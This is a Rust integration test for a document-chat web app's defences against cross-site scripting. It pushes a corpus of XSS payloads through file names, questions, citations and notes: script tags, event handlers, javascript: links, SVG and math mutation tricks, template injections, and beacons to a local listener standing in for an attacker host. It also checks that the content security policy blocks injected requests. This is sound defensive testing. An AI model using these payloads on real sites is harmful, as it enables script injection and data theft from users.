//! Hostile words from everywhere a word can come from, shown as words: nothing of them runs, and
//! nothing leaves for the address they name.

#![expect(clippy::unwrap_used, reason = "a test that can't go on should stop there")]

use std::sync::Arc;
use std::sync::atomic::{AtomicU32, Ordering};

use serde_json::{Value, json};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};

use crate::browser::{Browser, ENTER};
use crate::support::{Server, citations};

/// Each would set `owned` on the page or call home if anything took it for more than text. `{home}`
/// stands for an address that listens.
const CORPUS: [&str; 22] = [
    "<script>document.body.dataset.owned=1</script>",
    "<script src=//{home}/s.js></script>",
    "</title></textarea></style><script>owned()</script>",
    "<img src=x onerror=document.body.dataset.owned=2>",
    "<img src=http://{home}/i.png>",
    "<svg onload=document.body.dataset.owned=3><animate onbegin=owned() attributeName=x /></svg>",
    "<svg><a xlink:href=\"javascript:document.body.dataset.owned=4\"><text>go</text></a></svg>",
    "<a href=\"javascript:document.body.dataset.owned=5\">link</a>",
    "<iframe srcdoc=\"<script>parent.document.body.dataset.owned=6</script>\"></iframe>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5vd25lZCgpPC9zY3JpcHQ+\"></object>",
    "<math><mtext><style><img src=x onerror=owned()></style></mtext></math>",
    "<style>@import '//{home}/c.css'; body { background: url(//{home}/b.png) }</style>",
    "<link rel=stylesheet href=//{home}/l.css><meta http-equiv=refresh content=\"0;url=//{home}/m\">",
    "<form action=//{home}/f><button autofocus onfocus=owned() formaction=javascript:owned()>x</button></form>",
    "<base href=//{home}/><video autoplay src=//{home}/v onloadstart=owned()></video>",
    "![picture](http://{home}/p.png)",
    "![x](javascript:owned()) [go](javascript:document.body.dataset.owned=7) [d](data:text/html,<script>owned()</script>)",
    "[ref][1]\n\n[1]: javascript:owned()\n",
    "<javascript:owned()> <http://{home}/auto> [t](http://{home}/?q=secret \"onmouseover=owned()\")",
    "[a](\u{1}javascript:owned()) [b](java\tscript:owned()) [c](&#106;avascript:owned())",
    "{{constructor.constructor('owned()')()}} ${owned()} <%= owned() %> \" onfocus=owned() autofocus x=\"",
    "\u{202e}<b onclick=owned()>txt.exe\u{202c} <details open ontoggle=owned()>",
];

/// An address that counts who asks for something. A connection without a word is none: a browser
/// may open one ahead of a request that its policy then refuses.
async fn home() -> (String, Arc<AtomicU32>) {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = listener.local_addr().unwrap().to_string();
    let visits = Arc::new(AtomicU32::new(0));
    let counted = Arc::clone(&visits);
    tokio::spawn(async move {
        while let Ok((mut caller, _)) = listener.accept().await {
            let counted = Arc::clone(&counted);
            tokio::spawn(async move {
                if caller.read_u8().await.is_ok() {
                    counted.fetch_add(1, Ordering::Relaxed);
                }
            });
        }
    });
    (address, visits)
}

async fn is_untouched(browser: &Browser, view: &str) {
    let state = browser
        .eval(
            "return { owned: document.body.dataset.owned ?? null, seen: window.seen, scripts: document.scripts.length,
               made: document.querySelectorAll('img, iframe, object, embed, svg, math, video, base, main style, main link, meta[http-equiv]').length,
               links: [...document.links].filter((one) => !/^(https?|mailto):/.test(one.protocol)).length,
               handlers: [...document.querySelectorAll('*')].filter((one) => [...one.attributes].some(({ name }) => name.startsWith('on'))).length,
               elsewhere: performance.getEntriesByType('resource').filter(({ name }) => !name.startsWith(location.origin)).map(({ name }) => name) }",
            json!([]),
        )
        .await;
    let expected = json!({"owned": null, "seen": [], "scripts": 1, "made": 0, "links": 0, "handlers": 0, "elsewhere": []});
    assert_eq!(state, expected, "{view}");
}

#[tokio::test]
async fn hostile_words_from_anywhere_are_shown_as_words_and_call_nobody() {
    let (address, visits) = home().await;
    let corpus: Vec<String> = CORPUS.iter().map(|words| words.replace("{home}", &address)).collect();
    let all = corpus.join("\n\n");
    let line = corpus[3].clone();
    let reply = format!(
        "# {line}\n\n{all}\n\nSilver eels {line} leave in October [1].\n\n- {line}\n\n| {line} |\n|---|\n| {line} |\n\n> {line}\n\n```html\n{all}\n```\n"
    );
    let (server, _script) = crate::session::scripted_server(&reply, 0).await;
    let name = "<img src=x onerror=document.body.dataset.owned=8>.md";
    let text = format!("# Eels {line}\n\nSilver eels {line} leave in October.\n\n{all}\n");
    let document = server.add(name, text).await;
    assert_eq!(document["status"], "ready", "{document}");
    let broken = server.add("\"><script>owned()</script>.pdf", "%PDF-1.4 nothing").await;
    let document = document["id"].as_str().unwrap();
    let path = format!("/api/documents/{document}");
    server.json(reqwest::Method::PATCH, &path, Some(json!({"collection": line}))).await;
    let new = json!({"title": corpus[0], "project_id": line});
    let session = server.post("/api/chat/sessions", new).await;
    let session = session["id"].as_str().unwrap();
    let asked = server.ask(session, json!({"content": format!("When do silver eels leave? {all}")})).await;
    assert!(!citations(&asked).is_empty(), "there is a hostile quote");
    let answer = asked[0].data["message_id"].as_str().unwrap();
    let reaction = json!({"reaction": "dislike", "note": all});
    let path = format!("/api/chat/sessions/{session}/messages/{answer}/reaction");
    server.json(reqwest::Method::PUT, &path, Some(reaction)).await;

    let Some(browser) = Browser::open(&server).await else { return };
    for (view, shown, words) in [
        (format!("/s/{session}"), ".question", line.as_str()),
        (format!("/s/{session}/citations"), ".cited", "onerror="),
        ("/library".to_owned(), ".documents", name),
        (format!("/d/{document}"), ".stored", corpus[4].as_str()),
        (format!("/d/{document}/citations"), ".cited", "onerror="),
    ] {
        browser.go(&view).await;
        browser.see(shown, words).await;
        is_untouched(&browser, &view).await;
    }
    browser.go(&format!("/s/{session}")).await;
    browser.see(".prose table", "onerror=").await;
    browser.see(".sessions .project", "onerror=").await;
    // The panel, the card, the dialogs and what is announced show them as well.
    browser.click(".prose button.mark", "").await;
    browser.see("#panel mark", "").await;
    is_untouched(&browser, "the panel").await;
    browser.click("#panel button", "Close").await;
    browser.click(".tools button", "Note").await;
    browser.see("dialog textarea", "").await;
    is_untouched(&browser, "the note").await;
    browser.click("dialog button", "Cancel").await;
    browser.click("button", "All documents").await;
    browser.see("dialog .pick label", "onerror=").await;
    is_untouched(&browser, "the scope").await;
    browser.press(crate::browser::ESCAPE).await;
    browser.write("#nav input[type=search]", "eels").await;
    browser.see(".sessions .snippet", "").await;
    is_untouched(&browser, "the history").await;
    // Live, as a stream.
    browser.write("#question", &format!("{line}{ENTER}")).await;
    browser.see(".exchange:nth-of-type(2) .foot .tools", "").await;
    is_untouched(&browser, "a stream").await;
    assert_eq!(broken["status"], "failed");
    assert_eq!(visits.load(Ordering::Relaxed), 0, "nobody was called");
    // The trap itself works.
    TcpStream::connect(&address).await.unwrap().write_all(b"GET").await.unwrap();
    crate::support::eventually("a visit is counted", async || {
        (visits.load(Ordering::Relaxed) == 1).then_some(())
    })
    .await;
}

#[tokio::test]
async fn what_gets_into_the_page_after_all_is_stopped_by_its_policy() {
    let (address, visits) = home().await;
    let server = Server::start().await;
    let Some(browser) = Browser::open(&server).await else { return };
    browser.go("/").await;
    browser.see("#question", "").await;
    let script = "const box = document.createElement('div');
        box.innerHTML = `<img src=\"http://${arguments[0]}/i.png\" onerror=\"document.body.dataset.owned=1\">
            <iframe src=\"http://${arguments[0]}/f\"></iframe><b style=\"background:url(//${arguments[0]}/b)\">x</b>`;
        document.body.append(box);
        const run = document.createElement('script');
        run.textContent = 'document.body.dataset.owned=2';
        document.body.append(run);
        fetch(`http://${arguments[0]}/fetch`).catch(() => {});";
    browser.eval(script, json!([address])).await;
    crate::support::eventually("the policy refuses all of it", async || {
        let seen: Value = browser.noticed().await;
        let refused = seen
            .as_array()
            .unwrap()
            .iter()
            .filter(|one| one.as_str().unwrap().starts_with("securitypolicyviolation"));
        (refused.count() >= 5).then_some(())
    })
    .await;
    assert_eq!(browser.eval("return document.body.dataset.owned ?? null", json!([])).await, Value::Null);
    assert_eq!(visits.load(Ordering::Relaxed), 0);
}
